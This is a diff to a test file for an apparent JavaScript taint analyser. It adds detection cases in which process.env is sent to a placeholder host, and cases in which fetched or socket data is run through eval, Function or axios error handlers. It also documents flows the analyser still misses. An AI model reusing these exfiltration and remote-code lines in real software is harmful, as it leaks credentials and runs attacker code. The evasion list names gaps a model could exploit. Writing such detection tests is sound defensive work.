@@ -58,6 +58,7 @@ const secrets: readonly (readonly [code: Source, flow: string])[] = [
   [`const collect = done => done(process.env); collect(e => fetch('${away}', { body: JSON.stringify(e) }))`, 'env-all → network'],
   [`new Promise(ok => ok(process.env)).then(e => fetch('${away}', { body: JSON.stringify(e) }))`, 'env-all → network'],
   [`Promise.all([1, process.env]).then(all => fetch('${away}', { body: JSON.stringify(all) }))`, 'env-all → network'],
+  [`try { throw process.env } catch (e) { fetch('${away}', { body: JSON.stringify(e) }) }`, 'env-all → network'],
   [`const all = async () => process.env; const e = await all(); fetch('${away}', { body: JSON.stringify(e) })`, 'env-all → network'],
 ]
 
@@ -76,6 +77,11 @@ const answers: readonly (readonly [code: Source, flow: string])[] = [
   [`require('vm').runInThisContext(await (await fetch('${away}')).text())`, 'response → code'],
   [`module._compile(await (await fetch('${away}')).text(), 'a')`, 'response → code'],
   [`const F = (() => {}).constructor; F(await (await fetch('${away}')).text())()`, 'response → code'],
+  [`const run = t => eval(t); fetch('${away}').then(r => r.text()).then(run)`, 'response → code'],
+  [`function run(t) { eval(t) } fetch('${away}').then(r => r.text().then(run))`, 'response → code'],
+  [`function take(d) { eval(d.toString()) } require('net').connect(80, '${host}').on('data', take)`, 'response → code'],
+  [`try { await require('axios').get('${away}') } catch (e) { eval(e.response.data) }`, 'response → code'],
+  [`try { await require('axios').get('${away}') } catch ({ response: { data } }) { new Function('require', data)(require) }`, 'response → code'],
   [`import('data:text/javascript,' + await (await fetch('${away}')).text())`, 'response → code'],
   [`const s = new WebSocket('wss://${host}'); s.onmessage = e => eval(e.data)`, 'response → code'],
   [`const s = new WebSocket('wss://${host}'); s.addEventListener('message', ({ data }) => eval(data))`, 'response → code'],
@@ -121,6 +127,7 @@ const apart: readonly string[] = [
   `const t = await (await fetch('${away}')).json(); eval('1'); JSON.parse(t)`,
   `fetch('${away}').then(r => r.text()).then(t => /a/.exec(t))`,
   `fetch('${away}').catch(e => console.log(e.message))`,
+  `try { await fetch('${away}') } catch (e) { require('child_process').exec('echo ' + e.message) }`,
   `const s = new WebSocket('ws://localhost'); s.onmessage = e => console.log(e.data)`,
   `require('child_process').spawn('git', ['status'], { env: process.env })`,
   `const send = d => d; send(process.env); fetch('${away}', { body: send })`,
@@ -133,7 +140,7 @@ const apart: readonly string[] = [
 
 /** Flows that are still missed. A row that is found all of a sudden belongs into the tables above. */
 const missed: readonly (readonly [code: Source, flow: string, why: string])[] = [
-  [`try { throw process.env } catch (e) { fetch('${away}', { body: JSON.stringify(e) }) }`, 'env-all → network', 'What is thrown is not followed to where it is caught.'],
+  [`const m = new Map(Object.entries(process.env)); fetch('${away}', { body: JSON.stringify([...m]) })`, 'env-all → network', 'Maps are not opened.'],
   [`process.env.PORT ? 1 : 0; let s = ''; if (process.env.NPM_TOKEN[0] === 'a') s = 'a'; fetch('${away}', { body: s })`, 'env-secret → network', 'What a branch tells of a secret is not followed.'],
   [`require('fs').writeFileSync('a', JSON.stringify(process.env)); fetch('${away}', { body: require('fs').readFileSync('a') })`, 'env-all → network', 'A detour over the disk is not followed.'],
   [`const { EventEmitter } = require('events'); const e = new EventEmitter(); e.on('a', x => fetch('${away}', { body: JSON.stringify(x) })); e.emit('a', process.env)`, 'env-all → network', 'Events of their own are not matched by name.'],
